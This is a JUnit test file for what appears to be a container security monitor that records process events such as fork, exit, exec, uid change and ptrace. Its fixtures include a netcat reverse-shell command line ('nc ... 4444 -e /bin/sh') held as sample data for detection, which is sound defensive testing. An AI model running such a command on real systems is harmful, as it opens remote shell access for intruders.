package dev.dockward.event;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;

import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.OptionalInt;
import java.util.OptionalLong;
import org.junit.jupiter.api.Test;

/** The contract's documents of the real-time process events. */
class ProcessEventDocumentsTest {
  private static final Instant T = Instant.parse("2026-11-23T05:41:02.118Z");
  private static final HostInfo HOST = new HostInfo("vm", "3f9a0c1d2e4b");
  private static final String ID =
      "9f2c4e1b7a3d5c6e8f0a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f6a";
  private static final ProcessInfo SH =
      new ProcessInfo(
          4321,
          4242,
          1234567L,
          "sh",
          "/bin/busybox",
          "sh -c id",
          false,
          OptionalInt.of(1000),
          OptionalInt.of(0),
          OptionalLong.of(0xa80425fbL),
          Map.of("mnt", 4026531841L, "net", 4026532207L),
          "/docker/" + ID,
          Optional.of(List.of("mnt")));

  private static Map<?, ?> sub(Map<String, Object> doc, String key) {
    return (Map<?, ?>) doc.get(key);
  }

  @Test
  void processCarriesHostNamespacesOnlyWhenTheReferenceIsKnown() {
    assertEquals(List.of("mnt"), EventDocuments.process(SH).get("host_ns"));
    ProcessInfo unknown =
        new ProcessInfo(
            1,
            0,
            1L,
            "x",
            "",
            "",
            false,
            OptionalInt.empty(),
            OptionalInt.empty(),
            OptionalLong.empty(),
            Map.of(),
            "");
    assertFalse(EventDocuments.process(unknown).containsKey("host_ns"));
  }

  @Test
  void parentAndAncestorsOfAnExecCarryTheirProgram() {
    // Debian's static busybox re-runs its applets through /proc/self/exe: comm is "exe", argv[0]
    // the applet
    ProcessRelative nc =
        new ProcessRelative(
            4300, "exe", "/bin/busybox", "nc 172.17.0.5 4444 -e /bin/sh", false, Optional.empty());
    ProcessRelative shim =
        new ProcessRelative(
            4200,
            "containerd-shim",
            "/usr/bin/containerd-shim-runc-v2",
            "/usr/bin/containerd-shim-runc-v2 -namespace moby",
            false,
            Optional.of("containerd-shim-runc-v2"));
    ProcessObserved exec =
        new ProcessObserved(
            T,
            "netlink",
            SH,
            Optional.empty(),
            new ProcessOrigin(Optional.empty(), List.of(nc, shim)));
    Map<String, Object> process = exec.processDocument().orElseThrow();
    assertEquals("nc", sub(process, "parent").get("program"));
    List<?> ancestors = (List<?>) process.get("ancestors");
    assertEquals("nc", ((Map<?, ?>) ancestors.get(0)).get("program"));
    assertEquals("containerd-shim-runc-v2", ((Map<?, ?>) ancestors.get(1)).get("program"));
    assertFalse(
        ((Map<?, ?>) ancestors.get(0)).containsKey("cmdline"),
        "an exec's ancestors carry no command line");
  }

  @Test
  void forkExitUidChangeAndPtraceHaveTheirOwnFields() {
    Optional<ContainerInfo> c = Optional.of(ContainerInfo.unresolved(ID));
    Map<String, Object> fork =
        EventDocuments.of(
            new ProcessForked(T, "netlink", Optional.of(SH), 4321, 4400, c), HOST, "a");
    assertEquals("fork", fork.get("type"));
    assertEquals(Map.of("parent_pid", 4321L, "child_pid", 4400L), fork.get("fork"));
    assertEquals(4321L, sub(fork, "process").get("pid"));

    Map<String, Object> exit =
        EventDocuments.of(
            new ProcessExited(T, "netlink", Optional.empty(), 4400, 3, 0, OptionalLong.of(4), c),
            HOST,
            "b");
    assertEquals(
        Map.of("pid", 4400L, "status", 3L, "signal", 0L, "lifetime_ms", 4L), exit.get("exit"));
    assertFalse(exit.containsKey("process"), "an unknown process is left out, not made up");
    Map<String, Object> noLifetime =
        EventDocuments.of(
            new ProcessExited(
                T, "netlink", Optional.empty(), 1, 0, 9, OptionalLong.empty(), Optional.empty()),
            HOST,
            "c");
    assertFalse(sub(noLifetime, "exit").containsKey("lifetime_ms"));

    Map<String, Object> uid =
        EventDocuments.of(
            new UidChanged(T, "netlink", SH, 1000, 0, OptionalInt.of(1000), c), HOST, "d");
    assertEquals("uid_change", uid.get("type"));
    assertEquals(Map.of("ruid", 1000L, "euid", 0L, "previous_euid", 1000L), uid.get("uid_change"));

    Map<String, Object> ptrace =
        EventDocuments.of(
            new ProcessTraced(T, "netlink", Optional.of(SH), 4321, Optional.empty(), 2577, "", c),
            HOST,
            "e");
    assertEquals("ptrace", ptrace.get("type"));
    assertEquals(
        Map.of("tracer_pid", 4321L, "target_pid", 2577L, "target_container_id", ""),
        ptrace.get("ptrace"));
    assertEquals(ID, sub(ptrace, "container").get("id"));
  }
}
